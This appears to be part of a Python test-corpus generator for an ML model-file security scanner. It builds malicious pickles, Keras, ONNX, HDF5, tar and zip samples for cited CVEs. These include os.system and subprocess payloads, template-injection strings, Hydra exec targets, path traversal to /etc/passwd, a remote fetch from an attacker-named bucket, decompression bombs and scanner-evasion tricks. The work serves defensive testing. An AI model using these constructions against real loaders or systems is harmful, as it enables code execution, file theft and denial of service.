        call_pickle("numpy.lib._npyio_impl", "load", "/tmp/mlvet_marker.npy", None, True),
        "numpy",
        "numpy.load(path, allow_pickle=True) under its NumPy 2 private module.",
    )
    out += _adv(
        "numpy2_format_impl_read_array",
        "ISSUE-9 (numpy.lib._format_impl)",
        "2026-11",
        call_pickle("numpy.lib._format_impl", "read_array", Raw(b"N"), True),
        "numpy",
        "read_array(fp, allow_pickle=True): NumPy 2 private format module.",
    )
    out += _adv(
        "numpy_datasource_open_url",
        "Hide-and-Seek gadget class (numpy DataSource)",
        "2025-08",
        call_pickle("numpy.lib._datasource", "open", "http://127.0.0.1:9/x"),
        "numpy",
        "DataSource.open fetches a URL to a local cache.",
    )
    out += _adv(
        "numpy_ctypeslib_load_library",
        "Hide-and-Seek gadget class (numpy.ctypeslib)",
        "2025-08",
        call_pickle("numpy.ctypeslib", "load_library", "mlvet_marker", "/tmp"),
        "numpy.ctypeslib",
        "Loads a shared library from a path (constructors run).",
    )
    return out


@advisory
def torch_fx_reduce_graph_module() -> list[Advisory]:
    # ISSUE-9 allow-list hole: torch.fx.graph_module.reduce_graph_module exec()s import_block + code.
    body = {"_code": "\ndef forward(self):\n    return None\n"}
    data = call_pickle("torch.fx.graph_module", "reduce_graph_module", body, PY_SRC + "\n")
    return _adv(
        "torch_fx_reduce_graph_module",
        "ISSUE-9 (reduce_graph_module exec)",
        "2026-11",
        data,
        "torch.fx.graph_module.reduce_graph_module",
        "The import block is exec'd before the graph is re-traced.",
        live="pickle",
    )


@advisory
def pandas_hdfstore_write() -> list[Advisory]:
    # PickleBall-style allow-list audit: top-level pandas.HDFStore(path, 'w') / ExcelWriter(path) create
    # files; both are exported from pandas' root namespace whose capitalised names are allow-listed.
    out = _adv(
        "pandas_hdfstore_write",
        "PickleBall allow-list audit (pandas HDFStore)",
        "2025-10",
        call_pickle("pandas", "HDFStore", REL_MARKER, "w"),
        "pandas.HDFStore",
        "Top-level pandas class that creates a file.",
    )
    out += _adv(
        "pandas_excelwriter",
        "PickleBall allow-list audit (pandas ExcelWriter)",
        "2025-10",
        call_pickle("pandas", "ExcelWriter", REL_MARKER + ".xlsx"),
        "pandas.ExcelWriter",
        "Top-level pandas class that opens a path for writing.",
    )
    return out


@advisory
def tf_gfile_write() -> list[Advisory]:
    # Checkmarx "Free Hugs" part 3 (2024-10) TensorFlow file primitives, reached as a pickle class:
    # tensorflow.python.platform.gfile.GFile(path, 'w') (class name matches the TF allow-glob).
    out = _adv(
        "tf_gfile_write",
        "Checkmarx Free Hugs pt.3 (tf file ops)",
        "2024-10",
        call_pickle("tensorflow.python.platform.gfile", "GFile", REL_MARKER, "w"),
        "tensorflow.python.platform.gfile.GFile",
        "TensorFlow file object opened for writing.",
    )
    out += _adv(
        "tf_file_io_write",
        "Checkmarx Free Hugs pt.3 (tf file ops)",
        "2024-10",
        call_pickle("tensorflow.python.lib.io.file_io", "FileIO", REL_MARKER, "w"),
        "tensorflow.python.lib.io.file_io.FileIO",
        "TensorFlow FileIO opened for writing.",
    )
    return out


@advisory
def keras_get_file_private() -> list[Advisory]:
    # CVE-2025-8747 / CVE-2025-12060 (keras get_file download + extract), spelled by its keras.src module.
    data = call_pickle("keras.src.utils.file_utils", "get_file", "x.tar.gz", "http://127.0.0.1:9/x.tar.gz")
    return _adv(
        "keras_src_get_file",
        "CVE-2025-8747 / CVE-2025-12060 (get_file)",
        "2025-08",
        data,
        "keras",
        "Download + archive extraction through keras.src's private module path.",
    )


@advisory
def hydra_instantiate() -> list[Advisory]:
    # Unit 42 "Hydra instantiate in AI model configs" (2026-01; NeMo CVE-2025-23304, uni2TS, FlexTok):
    # hydra.utils.instantiate({'_target_': ...}) resolves and calls a dotted name given only as a string.
    cfg = {"_target_": "os.system", "_args_": [SHELL_CMD]}
    return _adv(
        "unit42_hydra_instantiate_pickle",
        "Unit 42 Hydra _target_ (CVE-2025-23304)",
        "2026-01",
        call_pickle("hydra.utils", "instantiate", cfg),
        "hydra",
        "The dangerous callable is only a string inside the config dict.",
    )


@advisory
def pil_imagemath_eval() -> list[Advisory]:
    # CVE-2022-22817 (2022-01) and CVE-2023-50447 (2024-01), Pillow: ImageMath.eval / unsafe_eval
    # evaluate an expression; the environment trick reaches builtins.
    out = _adv(
        "cve_2023_50447_imagemath_eval",
        "CVE-2023-50447",
        "2024-01",
        call_pickle("PIL.ImageMath", "eval", "exec(" + repr(PY_SRC) + ")"),
        "PIL.ImageMath",
        "Pillow expression evaluator (eval under the hood).",
    )
    out += _adv(
        "cve_2022_22817_imagemath_unsafe_eval",
        "CVE-2022-22817",
        "2022-01",
        call_pickle("PIL.ImageMath", "unsafe_eval", "exec(" + repr(PY_SRC) + ")"),
        "PIL.ImageMath",
        "Pillow >= 11 name of the same evaluator.",
    )
    return out


@advisory
def mako_template_module_block() -> list[Advisory]:
    # Server-side template injection (PayloadsAllTheThings "Mako", 2019+): a module-level <%! %> block is
    # executed when the Template is constructed, so the constructor alone runs code.
    src = "<%! import os; os.system(" + repr(SHELL_CMD) + ") %>"
    return _adv(
        "ssti_mako_template_ctor",
        "PayloadsAllTheThings SSTI (Mako)",
        "2019-06",
        call_pickle("mako.template", "Template", src),
        "mako.template.Template",
        "Mako compiles and runs module-level blocks in the constructor.",
        live="pickle",
    )


@advisory
def gzip_bz2_lzma_open_write() -> list[Advisory]:
    # Hide-and-Seek (arXiv:2508.19774, 2025-08) file-system gadget class: compression modules' open()
    # truncate any path, like the builtins.open that deny-lists name.
    out: list[Advisory] = []
    for mod in ("gzip", "bz2", "lzma"):
        out += _adv(
            f"hs_{mod}_open_write",
            "arXiv:2508.19774 file-write gadgets",
            "2025-08",
            call_pickle(mod, "open", REL_MARKER, "wb"),
            f"{mod}.open",
            f"{mod}.open(path, 'wb') creates or truncates a file.",
            live="pickle" if mod == "gzip" else None,
        )
    return out


@advisory
def builtins_loader_load_module() -> list[Advisory]:
    # Hide-and-Seek class "attribute walk through builtins" (2025-08): builtins.__loader__ is
    # BuiltinImporter; its load_module imports a built-in module (posix) without naming importlib.
    a = Asm(0).global_("builtins", "__loader__.load_module").mark().unicode("posix").tuple_().reduce()
    return _adv(
        "hs_builtins_loader_load_module",
        "arXiv:2508.19774 attribute walks",
        "2025-08",
        a.done(),
        "builtins",
        "builtins.__loader__.load_module('posix') returns the os implementation module.",
    )


@advisory
def reconstructor_foreign_init() -> list[Advisory]:
    # PickleBall (CCS 2025) "allowed callable with attacker-chosen class" class: copyreg._reconstructor(cls,
    # base, state) calls base.__new__(cls, state) then base.__init__(obj, state): an allow-listed helper runs
    # the __init__ of a class that only appears as an *argument* (never REDUCEd itself).
    a = Asm(2)
    a.glob("copyreg", "_reconstructor").mark().glob("subprocess", "Popen").glob("subprocess", "Popen")
    a.val(["sh", "-c", SHELL_CMD]).tuple_().reduce()
    return _adv(
        "pickleball_reconstructor_popen_init",
        "PickleBall (CCS 2025) reconstructor abuse",
        "2025-10",
        a.done(),
        "subprocess.Popen",
        "_reconstructor runs Popen.__init__(obj, argv): the process starts.",
        live="pickle",
    )


@advisory
def torch_optim_lambda_lr() -> list[Advisory]:
    # Hide-and-Seek third-party gadget class (2025-08): constructors under allow-globs that *call* an
    # argument. LambdaLR(optimizer, lr_lambda) calls lr_lambda(0) at construction.
    a = Asm(4)
    a.glob("torch.optim.lr_scheduler", "LambdaLR").mark()
    a.glob("torch.optim.sgd", "SGD").mark().val([]).tuple_().reduce()
    a.glob("builtins", "print").tuple_().reduce()
    return _adv(
        "hs_torch_lambdalr_calls_argument",
        "arXiv:2508.19774 callback gadgets",
        "2025-08",
        a.done(),
        "builtins.print",
        "LambdaLR calls its lr_lambda argument at construction (here harmless print)",
    )


# =============================================================================================
# Archive / container advisories (loader-side extraction and zip tricks)
# =============================================================================================


def _zip_symlink(name: str, target: str) -> bytes:
    """A ZIP whose single member carries Unix mode S_IFLNK (the link target is the member data)."""
    raw = build_zip([ZEntry(name, target.encode())])
    # Patch "version made by" to Unix (3 << 8) and external attributes to 0o120777 << 16.
    i = raw.index(b"PK\x01\x02")
    raw = raw[: i + 4] + struct.pack("<H", (3 << 8) | 20) + raw[i + 6 :]
    ext_off = i + 38
    return raw[:ext_off] + struct.pack("<I", 0o120777 << 16) + raw[ext_off + 4 :]


def _tar(members: list[tarfile.TarInfo], datas: list[bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for ti, d in zip(members, datas, strict=True):
            ti.mtime = 0
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = ""
            if ti.type == tarfile.REGTYPE:
                ti.size = len(d)
                tf.addfile(ti, io.BytesIO(d))
            else:
                tf.addfile(ti)
    return buf.getvalue()


def _ti(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", mode: int = 0o644) -> tarfile.TarInfo:
    ti = tarfile.TarInfo(name)
    ti.type = kind
    ti.linkname = link
    ti.mode = mode
    return ti


@advisory
def cve_2025_12060_tar_symlink_escape() -> list[Advisory]:
    # CVE-2025-12060 (2025-10, keras.utils.get_file extract) and CVE-2007-4559 class: a symlink member that
    # points outside, followed by a regular member written *through* it.
    data = _tar(
        [_ti("model", tarfile.SYMTYPE, "../../../../tmp"), _ti("model/mlvet_marker.out")], [b"", b"mlvet-test\n"]
    )
    return _adv(
        "cve_2025_12060_tar_symlink_escape",
        "CVE-2025-12060",
        "2025-10",
        data,
        None,
        "Tar symlink out of the extraction root, then a file written through it.",
        component="fs",
        filename="model.tar",
    )


@advisory
def tar_hardlink_escape() -> list[Advisory]:
    # CVE-2025-4517 / CVE-2025-4330 (2025-06, CPython tarfile filter bypasses): hard link to an absolute
    # path outside the extraction root.
    data = _tar([_ti("weights.bin", tarfile.LNKTYPE, "/etc/passwd")], [b""])
    return _adv(
        "cve_2025_4517_tar_hardlink",
        "CVE-2025-4517",
        "2025-06",
        data,
        None,
        "Hard link member targeting an absolute path.",
        component="fs",
        filename="checkpoint.tar",
    )


@advisory
def tar_dotdot_member() -> list[Advisory]:
    # CVE-2007-4559 (re-reported for ML loaders 2022-09, Trellix): '..' member names in a model tarball
    # (.nemo, legacy torch .tar) write outside the extraction directory.
    data = _tar([_ti("../../../tmp/mlvet_marker.out")], [b"mlvet-test\n"])
    return _adv(
        "cve_2007_4559_tar_dotdot",
        "CVE-2007-4559 (Trellix 2022)",
        "2022-09",
        data,
        None,
        "Tar member with a parent-directory name.",
        component="fs",
        filename="model.nemo",
    )


@advisory
def tar_absolute_member() -> list[Advisory]:
    # CVE-2007-4559 variant: absolute member path.
    data = _tar([_ti("/tmp/mlvet_marker.out")], [b"mlvet-test\n"])
    return _adv(
        "cve_2007_4559_tar_absolute",
        "CVE-2007-4559 (Trellix 2022)",
        "2022-09",
        data,
        None,
        "Tar member with an absolute name.",
        component="fs",
        filename="model.tar",
    )


@advisory
def zip_slip_dotdot() -> list[Advisory]:
    # Snyk "Zip Slip" (2018-06), reported for ML zip loaders (mlflow / keras extract): '..' member name.
    data = build_zip([ZEntry("../../tmp/mlvet_marker.out", b"mlvet-test\n")])
    return _adv(
        "zip_slip_dotdot",
        "Snyk Zip Slip (2018)",
        "2018-06",
        data,
        None,
        "ZIP member with a parent-directory name.",
        component="fs",
        filename="model.zip",
    )


@advisory
def zip_symlink_member() -> list[Advisory]:
    # ISSUE-9 / CVE-2024-0520 class (mlflow zip extraction, 2024-06): zip entry whose Unix mode is a symlink.
    return _adv(
        "zip_unix_symlink_member",
        "CVE-2024-0520 class (zip symlink)",
        "2024-06",
        _zip_symlink("assets/vocab.txt", "/etc/passwd"),
        None,
        "ZIP entry flagged as a Unix symlink pointing at /etc/passwd.",
        component="fs",
        filename="model.zip",
    )


@advisory
def zip_bomb_torch() -> list[Advisory]:
    # David Fifield "A better zip bomb" (2019-07) applied to model zips: a small deflated member that
    # inflates to a huge data.pkl (resource exhaustion at load).
    big = b"\x00" * (64 << 20)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = co.compress(big) + co.flush()
    ents = [ZEntry("archive/data/0", big, method=8, payload_override=comp)]
    data = build_zip(torch_entries(call_pickle("collections", "OrderedDict"), extra=ents))
    return _adv(
        "zip_bomb_torch_member",
        "Fifield, A better zip bomb (2019)",
        "2019-07",
        data,
        None,
        "A torch zip whose storage member inflates 1000x.",
        component="fs",
        filename="bomb.pt",
    )


@advisory
def zip_nested_dotdot_torch() -> list[Advisory]:
    # JFrog CVE-2025-1889 class (2025-03): pickle under a member name a scanner ignores (no .pkl) inside a
    # torch zip, with the archive directory named like a parent path.
    ents = torch_entries(call_pickle("os", "system", SHELL_CMD), archive="..")
    return _adv(
        "zip_torch_archive_dir_dotdot",
        "CVE-2025-1889 class (member naming)",
        "2025-03",
        build_zip(ents),
        "os.system",
        "Torch checkpoint whose record directory is '..'.",
        component="fs",
        filename="model.pt",
    )


@advisory
def zip_central_only_member() -> list[Advisory]:
    # picklescan GHSA-mjqp-26hc-grxg class (2025-09, zip parsing differentials): data.pkl present only in
    # local headers (the central directory lists a decoy), which torch's reader never sees but stream
    # readers do; the inverse (central lists the payload, local name differs) is in build_malicious.
    payload = call_pickle("os", "system", SHELL_CMD)
    ents = torch_entries(Asm(2).val({}).done())
    ents.insert(0, ZEntry("archive/data.pkl", payload, in_central=False))
    return _adv(
        "zip_local_only_payload",
        PS + "mjqp-26hc-grxg",
        "2025-09",
        build_zip(ents),
        "os.system",
        "A second data.pkl only in the local headers (stream readers see it first).",
        component="fs",
        filename="model.pt",
    )


@advisory
def gzip_multimember_joblib() -> list[Advisory]:
    # nullifAI-style (ReversingLabs 2025-02) compression trick for joblib: two concatenated gzip members,
    # the payload in the second (gzip readers concatenate members, many scanners read only the first).
    import gzip

    first = gzip.compress(Asm(2).val({"w": 1}).done()[:-1], mtime=0)
    second = gzip.compress(call_pickle("os", "system", SHELL_CMD, proto=2)[2:], mtime=0)
    return _adv(
        "nullifai_gzip_multimember",
        "ReversingLabs nullifAI (2025-02)",
        "2025-02",
        first + second,
        "os.system",
        "Pickle split across two gzip members.",
        component="fs",
        filename="model.joblib.gz",
    )


# =============================================================================================
# Keras / TensorFlow / ONNX / GGUF / config advisories
# =============================================================================================


def _keras_zip(config: dict[str, object]) -> bytes:
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return build_zip(
        [
            ZEntry("metadata.json", json.dumps(meta).encode()),
            ZEntry("config.json", json.dumps(config).encode()),
            ZEntry("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 8),
        ]
    )


def _seq(layer: dict[str, object]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 1], "name": "in"},
                },
                layer,
            ],
        },
        "registered_name": None,
    }


@advisory
def cve_2025_12058_stringlookup_path() -> list[Advisory]:
    # CVE-2025-12058 (2025-10, Keras): StringLookup/IntegerLookup/TextVectorization vocabulary given as a
    # local absolute path is read at load even in safe mode (file disclosure / SSRF via tf.io gfile).
    out: list[Advisory] = []
    for cls in ("StringLookup", "IntegerLookup", "TextVectorization"):
        layer = {
            "module": "keras.layers",
            "class_name": cls,
            "registered_name": None,
            "config": {"name": cls.lower(), "vocabulary": "/etc/passwd"},
        }
        out += _adv(
            f"cve_2025_12058_{cls.lower()}",
            "CVE-2025-12058",
            "2025-10",
            _keras_zip(_seq(layer)),
            None,
            f"{cls} vocabulary read from a local absolute path at load.",
            component="keras-onnx",
            filename="model.keras",
        )
    gs = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "registered_name": None,
        "config": {"name": "s", "vocabulary": "gs://attacker-bucket/vocab.txt"},
    }
    out += _adv(
        "cve_2025_12058_stringlookup_remote",
        "CVE-2025-12058",
        "2025-10",
        _keras_zip(_seq(gs)),
        None,
        "Remote (gs://) vocabulary: tf.io.gfile fetches it at load.",
        component="keras-onnx",
        filename="model.keras",
    )
    return out


@advisory
def cve_2025_49655_torch_module_wrapper() -> list[Advisory]:
    # CVE-2025-49655 (2025-10, Keras 3.11 TorchModuleWrapper): from_config torch.load()s the module bytes
    # stored base64 in config.json (weights_only=False) even in safe mode.
    inner = torch_zip(call_pickle("os", "system", SHELL_CMD, proto=2))
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "registered_name": None,
        "config": {"name": "torch_module_wrapper", "module": base64.b64encode(inner).decode()},
    }
    return _adv(
        "cve_2025_49655_torch_module_wrapper",
        "CVE-2025-49655",
        "2025-10",
        _keras_zip(_seq(layer)),
        "os.system",
        "A torch pickle base64-encoded inside the Keras config.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def cve_2024_3660_lambda_in_keras_zip_nested_model() -> list[Advisory]:
    # CVE-2024-3660 (2024-04) variant: Lambda layer with marshalled bytecode nested one Functional model
    # deeper (inside a layer's config), where a flat layer walk does not look.
    code = base64.b64encode(b"\xe3" + b"\x00" * 40).decode()
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "l",
            "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}},
        },
    }
    inner = {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "inner", "layers": [lam]},
    }
    return _adv(
        "cve_2024_3660_nested_lambda",
        "CVE-2024-3660",
        "2024-04",
        _keras_zip(_seq(inner)),
        None,
        "Lambda bytecode inside a nested Sequential.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def cve_2021_37678_keras_yaml() -> list[Advisory]:
    # CVE-2021-37678 (2021-08, TensorFlow): model_from_yaml used yaml.unsafe_load; a YAML model config with
    # a python/object/apply tag runs a callable.
    y = "!!python/object/apply:os.system\n- '" + SHELL_CMD.replace("'", "''") + "'\n"
    return _adv(
        "cve_2021_37678_keras_yaml",
        "CVE-2021-37678",
        "2021-08",
        y.encode(),
        None,
        "Keras YAML model config with a python/object/apply tag.",
        component="keras-onnx",
        filename="model.yaml",
    )


@advisory
def onnx_external_data_traversal_variants() -> list[Advisory]:
    # CVE-2024-27319 / CVE-2024-27318 (2024-02, ONNX): external_data location escaping the model folder;
    # 27318 (covered elsewhere) used '..'; this rebuilds the absolute-path and symlink-free variants.
    import onnx
    from onnx import TensorProto, helper

    out: list[Advisory] = []
    for tag, loc in (("absolute", "/etc/passwd"), ("dotdot_backslash", "..\\..\\secret.bin")):
        t = TensorProto()
        t.name = "w"
        t.data_type = TensorProto.FLOAT
        t.dims.extend([1])
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", loc), ("offset", "0"), ("length", "4")):
            e = t.external_data.add()
            e.key, e.value = k, v
        g = helper.make_graph(
            [helper.make_node("Identity", ["w"], ["y"])],
            "g",
            [],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
            [t],
        )
        m = helper.make_model(g, producer_name="mlvet-advisory", opset_imports=[helper.make_opsetid("", 13)])
        out += _adv(
            f"cve_2024_27319_external_{tag}",
            "CVE-2024-27319",
            "2024-02",
            m.SerializeToString(),
            None,
            f"External-data location {loc!r} read at load.",
            component="keras-onnx",
            filename="model.onnx",
        )
    _ = onnx
    return out


@advisory
def onnx_pyop_default_domain() -> list[Advisory]:
    # ISSUE-9 / onnxruntime-extensions PyOp (HiddenLayer ShadowLogic follow-up 2025): a PyOp node calls a
    # registered Python function; here in the default domain and in ai.onnx.contrib.
    from onnx import TensorProto, helper

    out: list[Advisory] = []
    for tag, domain in (("default", ""), ("contrib", "ai.onnx.contrib")):
        n = helper.make_node("PyOp", ["x"], ["y"], domain=domain, op_type_name="os.system")
        g = helper.make_graph(
            [n],
            "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
        )
        ops = [helper.make_opsetid("", 13)] + ([helper.make_opsetid(domain, 1)] if domain else [])
        m = helper.make_model(g, producer_name="mlvet-advisory", opset_imports=ops)
        out += _adv(
            f"onnx_pyop_{tag}",
            "onnxruntime-extensions PyOp (ISSUE-9)",
            "2025-04",
            m.SerializeToString(),
            None,
            f"PyOp node in the {tag} domain (calls registered Python).",
            component="keras-onnx",
            filename="model.onnx",
        )
    return out


@advisory
def nemo_hydra_target_yaml() -> list[Advisory]:
    # Unit 42 (2026-01) / NVIDIA NeMo CVE-2025-23304: a .nemo tarball whose model_config.yaml names a
    # callable in a Hydra `_target_`; restore_from() instantiates it.
    cfg = (
        "target: nemo.collections.asr.models.EncDecCTCModel\n"
        'encoder:\n  _target_: builtins.exec\n  _args_:\n    - "' + PY_SRC.replace('"', '\\"') + '"\n'
    )
    data = _tar(
        [_ti("./model_config.yaml"), _ti("./model_weights.ckpt")],
        [cfg.encode(), torch_zip(Asm(2).val({"w": 1}).done())],
    )
    return _adv(
        "cve_2025_23304_nemo_hydra_target",
        "CVE-2025-23304 (Unit 42 Hydra)",
        "2026-01",
        data,
        None,
        "Hydra _target_ naming builtins.exec inside a .nemo model config.",
        component="templates",
        filename="model.nemo",
    )


@advisory
def hf_config_hydra_target_json() -> list[Advisory]:
    # Unit 42 (2026-01, uni2TS / FlexTok): config.json with Hydra `_target_` entries instantiated on load.
    cfg = {"model": {"_target_": "subprocess.run", "args": ["sh", "-c", SHELL_CMD]}}
    return _adv(
        "unit42_hf_config_hydra_target",
        "Unit 42 Hydra _target_ (uni2TS)",
        "2026-01",
        json.dumps(cfg).encode(),
        None,
        "HF config.json whose _target_ names subprocess.run.",
        component="templates",
        filename="config.json",
    )


@advisory
def cve_2024_34359_chat_template_variants() -> list[Advisory]:
    # CVE-2024-34359 (2024-05, llama-cpp-python) follow-ups: tokenizer_config.json chat templates that reach
    # os without naming __globals__ literally (attribute built with ~ and |attr).
    tpl = (
        "{% set g = '__glo' ~ 'bals__' %}{% set b = '__buil' ~ 'tins__' %}"
        "{{ (cycler.__init__|attr(g))[b]['__imp' ~ 'ort__']('o' ~ 's')|attr('sys' ~ 'tem')('true') }}"
    )
    cfg = {"chat_template": tpl, "bos_token": "<s>", "eos_token": "</s>"}
    out = _adv(
        "cve_2024_34359_concat_attr",
        "CVE-2024-34359 follow-up (concat + attr)",
        "2024-05",
        json.dumps(cfg).encode(),
        None,
        "SSTI with names built by concatenation and |attr.",
        component="templates",
        filename="tokenizer_config.json",
    )
    tpl2 = (
        "{% set n = dict(__glo=1,bals__=2)|join %}{% set i = dict(__imp=1,ort__=2)|join %}"
        "{{ (lipsum|attr(n))['__builtins__'][i]('os').popen('true').read() }}"
    )
    out += _adv(
        "issue9_dict_join_names",
        "ISSUE-9 (dict()|join names)",
        "2026-11",
        json.dumps({"chat_template": tpl2}).encode(),
        None,
        "Names built with dict(a=1)|join reach os.popen.",
        component="templates",
        filename="tokenizer_config.json",
    )
    return out


# =============================================================================================
# Second batch: 2024-2026 loader advisories (Keras HDF5, NLTK, smolagents ...) and ISSUE-9 classes
# =============================================================================================


def _h5(build: Callable[[object], None]) -> bytes:
    """An HDF5 file written by h5py in memory (no timestamps, so the bytes are reproducible)."""
    import h5py

    bio = io.BytesIO()
    with h5py.File(bio, "w", libver="earliest") as f:
        build(f)
    return bio.getvalue()


def _keras_with_weights(weights: bytes) -> bytes:
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {"name": "dense", "units": 1},
    }
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return build_zip(
        [
            ZEntry("metadata.json", json.dumps(meta).encode()),
            ZEntry("config.json", json.dumps(_seq(layer)).encode()),
            ZEntry("model.weights.h5", weights),
        ]
    )


@advisory
def cve_2026_1669_h5_external_storage() -> list[Advisory]:
    # CVE-2026-1669 (2026-02, Keras): a weight dataset in model.weights.h5 whose bytes live in *external
    # storage* (an attacker-named host file); load_model reads the host file into the weights.
    def build(f: object) -> None:
        g = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
        g.create_dataset("0", shape=(64,), dtype="u1", external=[("/etc/passwd", 0, 64)], track_times=False)

    return _adv(
        "cve_2026_1669_h5_external_storage",
        "CVE-2026-1669",
        "2026-02",
        _keras_with_weights(_h5(build)),
        None,
        "HDF5 external storage: weights read from /etc/passwd at load.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def keras_h5_external_link_model_weights() -> list[Advisory]:
    # keras-team/keras PR #22900 (2026-05, CVE-2026-1669 class): legacy .h5 whose `model_weights` group is
    # an HDF5 ExternalLink into another file on the host.
    import h5py

    def build(f: object) -> None:
        cfg = {"class_name": "Sequential", "config": {"name": "s", "layers": []}}
        f.attrs["model_config"] = json.dumps(cfg)  # type: ignore[attr-defined]
        f.attrs["keras_version"] = "2.15.0"  # type: ignore[attr-defined]
        f.attrs["backend"] = "tensorflow"  # type: ignore[attr-defined]
        f["model_weights"] = h5py.ExternalLink("/home/victim/secret.h5", "/model_weights")  # type: ignore[index]

    return _adv(
        "keras_h5_external_link",
        "keras PR #22900 (CVE-2026-1669 class)",
        "2026-05",
        _h5(build),
        None,
        "model_weights is an ExternalLink to another HDF5 file on the host.",
        component="keras-onnx",
        filename="model.h5",
    )


@advisory
def keras_h5_virtual_dataset() -> list[Advisory]:
    # huntr 6a825962 / keras PR #22976 (2026-06): HDF5 virtual dataset mapping bytes from another host file.
    import h5py
    import numpy as np

    def build(f: object) -> None:
        layout = h5py.VirtualLayout(shape=(16,), dtype="u1")
        layout[:] = h5py.VirtualSource("/home/victim/secret.h5", "data", shape=(16,))
        group = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
        # Layout.make_dataset with object timestamps off (create_virtual_dataset has no track_times).
        dcpl = layout._get_dcpl(group.file.filename)
        dcpl.set_obj_track_times(False)
        space = h5py.h5s.create_simple((16,))
        tid = h5py.h5t.py_create(np.dtype("u1"), logical=1)
        h5py.h5d.create(group.id, name=b"0", tid=tid, space=space, dcpl=dcpl)

    return _adv(
        "keras_h5_virtual_dataset",
        "keras PR #22976 (huntr, virtual dataset)",
        "2026-06",
        _keras_with_weights(_h5(build)),
        None,
        "Weights mapped from another HDF5 file through a virtual dataset.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def keras_h5_shape_bomb() -> list[Advisory]:
    # huntr 0908fb05 / keras PR #22975 (2026-06): a chunked dataset declaring 64 GiB with no chunk written;
    # reading it at load allocates the declared size (denial of service).
    def build(f: object) -> None:
        g = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
        g.create_dataset("0", shape=(1 << 17, 1 << 17), dtype="f4", chunks=(64, 64), track_times=False)

    return _adv(
        "keras_h5_shape_bomb",
        "keras PR #22975 (huntr, HDF5 shape bomb)",
        "2026-06",
        _keras_with_weights(_h5(build)),
        None,
        "64 GiB declared, a few KiB stored.",
        component="keras-onnx",
        filename="model.keras",
    )


@advisory
def keras_npz_shape_bomb() -> list[Advisory]:
    # huntr eb298773 / keras PR #23016 (2026-06): an .npz weights member whose .npy header declares far more
    # data than the member stores (numpy allocates the declared shape first).
    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (1073741824, 16), }"
    pad = (64 - (10 + len(header) + 1) % 64) % 64
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + pad + 1) + (header + " " * pad + "\n").encode()
    data = build_zip([ZEntry("arr_0.npy", npy + b"\x00" * 64)])
    return _adv(
        "keras_npz_shape_bomb",
        "keras PR #23016 (huntr, npz shape bomb)",
        "2026-06",
        data,
        None,
        "npz member declaring 64 GiB while storing 64 bytes.",
        component="fs",
        filename="weights.npz",
    )


@advisory
def keras_zip_decompression_bomb() -> list[Advisory]:
    # huntr 952d310a / keras PR #23010 (2026-06): a .keras archive whose weights member inflates ~1000x.
    big = b"\x00" * (48 << 20)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = co.compress(big) + co.flush()
    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "config": {"name": "d"}}
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    data = build_zip(
        [
            ZEntry("metadata.json", json.dumps(meta).encode()),
            ZEntry("config.json", json.dumps(_seq(layer)).encode()),
            ZEntry("model.weights.h5", big, method=8, payload_override=comp),
        ]
    )
    return _adv(
        "keras_zip_decompression_bomb",
        "keras PR #23010 (huntr, decompression bomb)",
        "2026-06",
        data,
        None,
        "48 MiB of zeros deflated to ~48 KiB inside a .keras archive.",
        component="fs",
        filename="model.keras",
    )


@advisory
def issue9_memo_index_bomb() -> list[Advisory]:
    # ISSUE-9 (memo expansion): LONG_BINPUT with index 0x7fffffff makes CPython's C unpickler grow its memo
    # table to ~2^32 slots (32 GiB) and clear them: a 12-byte file that exhausts the loader's memory.
    data = b"\x80\x02N" + b"r" + struct.pack("<I", 0x7FFFFFFF) + b"."
    return _adv(
        "issue9_memo_index_bomb",
        "ISSUE-9 (memo expansion bomb)",
        "2026-11",
        data,
        None,
        "One LONG_BINPUT with a huge index: the memo table is resized to it.",
    )


@advisory
def issue9_safe_callable_memory_bomb() -> list[Advisory]:
    # ISSUE-9 / fickling "pickle bomb" class: only allow-listed callables, list(range(10**10)) materialises
    # ten billion ints at load (memory exhaustion without any dangerous import).
    a = Asm(2)
    a.glob("builtins", "list").mark().glob("builtins", "range").val(10**10).tuple1().reduce().tuple_().reduce()
    return _adv(
        "issue9_list_range_bomb",
        "ISSUE-9 (safe-callable memory bomb)",
        "2026-11",
        a.done(),
        None,
        "list(range(10**10)) using only safe-tier builtins.",
    )


def _zstd_raw(payload: bytes) -> bytes:
    """A Zstandard frame holding ``payload`` in one raw (stored) block: single segment, 2-byte size."""
    assert 256 <= len(payload) + 256 < 65536 + 256
